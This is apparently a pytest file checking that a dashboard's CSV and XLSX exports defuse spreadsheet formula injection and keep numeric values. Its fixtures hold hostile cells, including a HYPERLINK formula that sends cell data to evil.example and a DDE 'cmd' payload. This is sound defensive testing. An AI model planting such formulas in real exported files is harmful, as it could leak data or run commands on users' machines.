"""Downloads neutralise spreadsheet formula injection (oversight.exports) and keep numbers.

A published text cell such as ``=HYPERLINK(...)`` is kept in the warehouse as published; every
CSV or XLSX the dashboard or the CLIs write prefixes it with ``'`` so a spreadsheet shows it as
text instead of running it. Numbers, and text cells that are plain numbers, are unchanged.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from oversight import __main__ as cli
from oversight import explore, exports

INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def hostile_frame() -> pd.DataFrame:
    """A malicious text cell beside negative numbers and text that is a plain number."""
    return pd.DataFrame(
        {
            "source": [INJECTION, "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "MPS"],
            "Context": ["-2+3", "-2", "+1.5", "\r=2", "plain"],
            "change": [-2, -15, 0, 7, -1],
            "rate": [-0.5, 1.25, -3.0, 0.0, 2.5],
        }
    )


EXPECTED_SOURCE = ["'" + INJECTION, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'\t=1+1", "MPS"]
EXPECTED_CONTEXT = ["'-2+3", "-2", "+1.5", "'\r=2", "plain"]


def test_csv_download_neutralises_text_and_keeps_numbers() -> None:
    data = exports.frame_bytes(hostile_frame(), "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [r["source"] for r in rows] == EXPECTED_SOURCE
    assert [r["Context"] for r in rows] == EXPECTED_CONTEXT
    assert [r["change"] for r in rows] == ["-2", "-15", "0", "7", "-1"]
    assert [r["rate"] for r in rows] == ["-0.5", "1.25", "-3.0", "0.0", "2.5"]
    assert b"\n=" not in data
    assert b",=" not in data


def test_xlsx_download_neutralises_text_and_keeps_numbers() -> None:
    book = openpyxl.load_workbook(io.BytesIO(exports.frame_bytes(hostile_frame(), "xlsx")))
    sheet = book.active
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert header == ("source", "Context", "change", "rate")
    assert [r[0] for r in rows] == EXPECTED_SOURCE
    assert [r[1] for r in rows] == EXPECTED_CONTEXT
    assert [r[2] for r in rows] == [-2, -15, 0, 7, -1]
    assert [r[3] for r in rows] == [-0.5, 1.25, -3.0, 0.0, 2.5]
    # No cell is stored as a formula.
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_missing_values_and_categories_survive() -> None:
    frame = pd.DataFrame({"a": pd.Series(["=1", None], dtype="category"), "b": [None, "x"]})
    out = exports.neutralise_frame(frame)
    assert out["a"].iloc[0] == "'=1"
    assert pd.isna(out["a"].iloc[1])
    assert pd.isna(out["b"].iloc[0])
    assert out["b"].iloc[1] == "x"
    assert frame["a"].iloc[0] == "=1"  # the caller's frame is not changed


@pytest.fixture
def hostile_warehouse(tmp_path: Path) -> Path:
    """A warehouse with one mart holding the hostile frame (as a published file would)."""
    path = tmp_path / "hostile.duckdb"
    con = duckdb.connect(str(path))
    try:
        frame = hostile_frame()  # noqa: F841 (read by DuckDB's replacement scan)
        con.execute("create schema marts")
        con.execute("create table marts.hostile as select * from frame")
    finally:
        con.close()
    return path


def test_explorer_downloads_neutralise_but_parquet_keeps_published_text(
    hostile_warehouse: Path,
) -> None:
    csv_bytes = explore.export_filtered(hostile_warehouse, "hostile", (), "csv", 100)
    assert f'"\'{INJECTION.replace(chr(34), chr(34) * 2)}"'.encode() in csv_bytes
    assert b"-15" in csv_bytes
    book = openpyxl.load_workbook(
        io.BytesIO(explore.export_filtered(hostile_warehouse, "hostile", (), "xlsx", 100))
    )
    assert book.active["A2"].value == "'" + INJECTION
    assert book.active["C3"].value == -15
    parquet = explore.export_filtered(hostile_warehouse, "hostile", (), "parquet", 100)
    assert pd.read_parquet(io.BytesIO(parquet))["source"].iloc[0] == INJECTION


def test_cli_csv_output_is_neutralised(
    hostile_warehouse: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OVERSIGHT_MODE", "internal")  # sql is an internal command
    code = cli.main(
        ["sql", "select source, change from marts.hostile", "--format", "csv",
         "--warehouse", str(hostile_warehouse)]
    )  # fmt: skip
    out = capsys.readouterr().out
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert rows[0]["source"] == "'" + INJECTION
    assert [r["change"] for r in rows] == ["-2", "-15", "0", "7", "-1"]
